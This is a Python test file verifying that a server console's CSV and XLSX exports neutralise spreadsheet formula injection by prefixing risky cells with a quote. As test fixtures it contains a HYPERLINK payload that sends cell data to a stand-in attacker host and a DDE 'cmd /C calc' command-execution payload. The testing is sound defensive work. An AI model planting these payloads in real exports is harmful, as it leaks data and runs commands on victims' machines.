"""Exports: spreadsheet cells never start a formula; CSV and XLSX carry the same rows."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from server.console.exports import Table, safe_cell, to_csv, to_xlsx
from tests.server.factories import make_egress

FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"


@pytest.mark.parametrize(
    "value, shown",
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tdata", "'\tdata"),
        ("\rdata", "'\rdata"),
        ("plain.docx", "plain.docx"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (3.5, 3.5),
        (True, "true"),
        ({"k": "=x"}, '{"k": "=x"}'),
    ],
)
def test_safe_cell(value, shown):
    assert safe_cell(value) == shown


def test_csv_and_xlsx_quote_formulas_and_keep_numbers():
    table = Table("t", ["name", "size"], [[FORMULA, 12], ["商业秘密.docx", -1]])
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    assert rows == [["name", "size"], ["'" + FORMULA, "12"], ["商业秘密.docx", "-1"]]

    sheet = load_workbook(io.BytesIO(to_xlsx(table))).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values == [["name", "size"], ["'" + FORMULA, 12], ["商业秘密.docx", -1]]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_xlsx_survives_control_characters():
    sheet = load_workbook(io.BytesIO(to_xlsx(Table("t", ["p"], [["a\x00b\x1bc"]])))).active
    assert sheet["A2"].value == "a\\x00b\\x1bc"


@pytest.mark.parametrize("what", ["alerts", "events", "register", "devices"])
def test_every_export_quotes_agent_text(admin, send, what):
    media = dict(make_egress()["media"], label="=cmd|' /C calc'!A0")
    send(make_egress("core", path=f"/media/x/{FORMULA}", media=media))
    from tests.server.factories import make_event

    send(make_event("media.mounted", path=None, media=media))
    send(make_event("file.modified", level="core", path=f"/srv/rnd/{FORMULA}/a.dwg"))
    for fmt in ("csv", "xlsx"):
        answer = admin.get(f"/console/export/{what}.{fmt}")
        assert answer.status_code == 200
        if fmt == "csv":
            cells = [c for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))) for c in row]
        else:
            cells = [c.value for row in load_workbook(io.BytesIO(answer.content)).active.iter_rows() for c in row]
        texts = [c for c in cells if isinstance(c, str)]
        assert len(cells) > 1
        assert not any(t.startswith(("=", "+", "@", "\t", "\r")) for t in texts), (what, fmt)
        if what in ("events", "devices"):
            assert any("=" in t and t.startswith("'") or FORMULA in t for t in texts)


def test_unknown_exports_are_404(admin):
    assert admin.get("/console/export/alerts.pdf").status_code == 404
    assert admin.get("/console/export/users.csv").status_code == 404
